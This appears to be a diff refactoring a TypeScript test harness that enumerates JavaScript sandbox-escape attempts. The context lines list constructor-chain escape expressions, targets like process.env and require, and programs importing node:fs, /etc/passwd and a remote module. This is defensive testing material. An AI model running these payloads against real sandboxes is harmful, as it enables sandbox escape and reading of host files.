@@ -3,8 +3,11 @@
 
 export type Attempt = { readonly name: string; readonly body: string };
 
+/** Expressions or programs by what they do. */
+export type Named = Readonly<Record<string, string>>;
+
 /** Expressions for a function that makes functions of texts, or for a global object itself, as published escapes have reached them. */
-const ways: Readonly<Record<string, string>> = {
+const ways: Named = {
   "the constructor of a constructor": "this?.constructor?.constructor ?? ({}).constructor.constructor",
   "the constructor of the input": "given.constructor.constructor",
   "the prototype of the input": "Object.getPrototypeOf(Object.getPrototypeOf(given)).constructor.constructor",
@@ -44,7 +47,7 @@ const ways: Readonly<Record<string, string>> = {
 };
 
 /** What is worth having: of a server, of a page, of the engine itself. */
-const goals: Readonly<Record<string, string>> = {
+const goals: Named = {
   process: "typeof process",
   "the environment": "process.env.PATH",
   require: "typeof require",
@@ -74,7 +77,7 @@ function crossed(way: string, goal: string): string {
 }
 
 /** Whole programs, each after one that was published or that only fits this sandbox. */
-const programs: Readonly<Record<string, string>> = {
+const programs: Named = {
   "imports a module of Node": "return import('node:fs').then(() => 'ESCAPED', () => 'held')",
   "imports a file": "return import('/etc/passwd').then(() => 'ESCAPED', () => 'held')",
   "imports from an address": "return import('https://example.com/x.js').then(() => 'ESCAPED', () => 'held')",
@@ -130,13 +133,21 @@ const programs: Readonly<Record<string, string>> = {
 };
 
 export function escapeAttempts(): readonly Attempt[] {
-  const crossings = Object.entries(ways).flatMap(([way, expression]) =>
-    Object.entries(goals).map(([goal, wanted]) => ({
+  return [...crossings(ways, goals), ...wholePrograms(programs)];
+}
+
+/** Each way towards each goal. */
+export function crossings(of: Named, towards: Named): readonly Attempt[] {
+  return Object.entries(of).flatMap(([way, expression]) =>
+    Object.entries(towards).map(([goal, wanted]) => ({
       name: `${way} towards ${goal}`,
       body: crossed(expression, wanted),
     })),
   );
-  return [...crossings, ...Object.entries(programs).map(([name, body]) => ({ name, body }))];
+}
+
+export function wholePrograms(of: Named): readonly Attempt[] {
+  return Object.entries(of).map(([name, body]) => ({ name, body }));
 }
 
 export function programOf({ body }: Attempt): string {
